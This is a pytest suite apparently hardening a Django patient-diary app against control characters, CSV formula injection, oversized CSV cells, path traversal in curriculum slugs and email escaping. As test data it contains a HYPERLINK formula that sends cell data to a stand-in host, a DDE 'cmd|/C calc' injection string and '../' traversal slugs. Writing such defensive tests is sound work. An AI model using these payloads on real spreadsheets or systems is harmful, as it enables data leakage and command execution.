"""Hardening (issue 18): control characters refused in words, API errors in JSON."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import ApiToken
from accounts.tokens import issue_token
from program.models import DiaryEntry
from tests.conftest import client_for, reauthenticated_client_for
from tests.nights import API_NIGHT


@pytest.mark.parametrize("text", ["a\x00b", "bell\x07", "esc\x1b[31m"])
def test_the_api_refuses_control_characters_naming_the_field(patient, text) -> None:
    _, token = issue_token(patient, "phone")
    day = patient.local_today().isoformat()
    response = Client().post(
        f"/api/v1/patients/{patient.pk}/diary",
        {**API_NIGHT, "diary_date": day, "comments": text},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 422
    detail = response.json()["detail"]
    assert any(d["loc"][-1] == "comments" for d in detail), detail
    assert "control character" in str(detail)
    assert not DiaryEntry.objects.exists()


def test_tab_and_newlines_are_kept(patient) -> None:
    _, token = issue_token(patient, "phone")
    response = Client().post(
        f"/api/v1/patients/{patient.pk}/diary",
        {
            **API_NIGHT,
            "diary_date": patient.local_today().isoformat(),
            "comments": "line one\nline\ttwo\r\n",
        },
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 201


def test_the_diary_form_refuses_control_characters_and_keeps_the_rest(patient) -> None:
    from tests.program.test_diary_integrity import NIGHT

    response = client_for(patient).post(
        reverse("program:diary_new"),
        {**NIGHT, "diary_date": patient.local_today().isoformat(), "comments": "dog\x07 barked"},
    )
    assert response.status_code == 200
    assert "control character" in response.content.decode()
    assert 'value="22:40"' in response.content.decode()


@pytest.mark.parametrize("name", ["a\x00b", "x" * 101])
def test_a_token_name_with_a_nul_or_too_long_is_refused_in_words(patient, name) -> None:
    response = reauthenticated_client_for(patient).post(
        reverse("accounts:api_tokens"), {"name": name}, follow=True
    )
    assert response.status_code == 200
    assert "plain name of up to 100 characters" in response.content.decode()
    assert not ApiToken.objects.exists()


def test_an_unexpected_api_error_is_json(patient, monkeypatch) -> None:
    from program import api

    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(api.diary_service, "save_entry", broken)
    _, token = issue_token(patient, "phone")
    client = Client(raise_request_exception=False)
    response = client.post(
        f"/api/v1/patients/{patient.pk}/diary",
        {**API_NIGHT, "diary_date": patient.local_today().isoformat()},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 500
    assert response["Content-Type"].startswith("application/json")
    assert "nothing was saved" in response.json()["detail"]


# --- CSV: formulas and the csv module's limits ---------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"name")'


def test_safe_cell_follows_owasps_rule() -> None:
    from program.spreadsheet import safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "A1") == "'" + start + "A1"
    assert safe_cell("Good night") == "Good night"
    assert safe_cell(-5) == -5  # numbers are numbers
    # A figure formatted as text is still a number ("-28" in a caseload CSV); a formula
    # that merely starts like one is not.
    assert safe_cell("-28") == "-28" and safe_cell("-12.0") == "-12.0"
    for formula in ("-1+1", "-2*A1", "-1,5", "- 3", "-"):
        assert safe_cell(formula) == "'" + formula
    assert safe_cell(None) is None


def test_the_diary_csv_and_the_data_download_never_carry_a_formula(patient) -> None:
    import csv
    import io
    import zipfile

    from program.diary.actions import save_entry
    from program.models import Medication
    from tests.nights import night_answers

    save_entry(
        patient=patient,
        diary_date=patient.local_today(),
        answers=night_answers(comments=FORMULA),
        changed_by=patient,
    )
    Medication.objects.create(patient=patient, name="@SUM(1+1)*cmd|' /C calc'!A0", usual_dose_mg=5)
    issue_token(patient, "+cmd")
    client = reauthenticated_client_for(patient)
    diary = client.get(reverse("program:diary_export")).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(diary)) for cell in row]
    assert "'" + FORMULA in cells
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("program:my_data_zip")).content))
    for name in archive.namelist():
        for row in csv.reader(io.StringIO(archive.read(name).decode())):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_an_import_with_a_cell_over_the_csv_limit_is_reported_not_a_500(therapist, patient) -> None:
    from program.diary.csv_files import COLUMNS

    text = ",".join(COLUMNS) + "\n" + "2026-11-20," + "x" * (200 * 1024) + "\n"
    response = client_for(therapist).post(
        reverse("program:diary_import", args=[patient.pk]),
        {"csv_text": text[:900_000]},
        follow=True,
    )
    assert response.status_code == 200
    assert "could not be read" in response.content.decode()
    assert not DiaryEntry.objects.exists()


# --- Curriculum files: no path outside the folder -------------------------------------


@pytest.mark.parametrize("slug", ["../../x", "a/b", "x y", "..", "\\\\evil"])
def test_an_imported_lesson_slug_must_be_a_slug(programme, tmp_path, slug) -> None:
    from program.curriculum.files import CurriculumFileError, export_programme, import_directory
    from program.models import Lesson

    out = tmp_path / "cur"
    export_programme(programme, out)
    (out / "en" / "week-1" / "09-evil.md").write_text(f'---\nslug: "{slug}"\n---\n\nBody\n')
    with pytest.raises(CurriculumFileError, match="letters, digits, hyphens"):
        import_directory(out)
    assert not Lesson.objects.filter(slug=slug).exists()


def test_the_exporter_never_writes_outside_its_folder(programme, tmp_path) -> None:
    from program.curriculum.files import CurriculumFileError, export_programme
    from program.models import Lesson

    Lesson.objects.filter(pk=Lesson.objects.first().pk).update(slug="x/../../../../escaped")
    with pytest.raises(CurriculumFileError, match="outside the export folder"):
        export_programme(programme, tmp_path / "out" / "deep")
    assert not list(tmp_path.rglob("*escaped*"))


def test_the_caseload_csv_never_carries_a_formula(therapist, patient) -> None:
    import csv
    import io

    patient.name = FORMULA
    patient.save()
    text = client_for(therapist).get(reverse("program:caseload_export")).getvalue().decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_plain_text_emails_are_not_html_escaped(therapist, programme) -> None:
    """issue 18, item 9: "O'Brien" in the text part, escaped only in the HTML part."""
    from types import SimpleNamespace

    from program.emails import render_email

    therapist.name = "Dr Róisín O'Brien <clinic>"
    invitation = SimpleNamespace(name="Seán O'Neil", programme=programme)
    message = render_email(
        "invitation",
        "sean@example.test",
        {"invitation": invitation, "therapist": therapist, "link": "https://x.test/i/1"},
    )
    assert "Seán O'Neil" in message.body
    assert "Dr Róisín O'Brien <clinic>" in message.body
    assert "&#x27;" not in message.body and "&lt;" not in message.body
    html = message.alternatives[0][0]
    assert "O&#x27;Brien &lt;clinic&gt;" in html
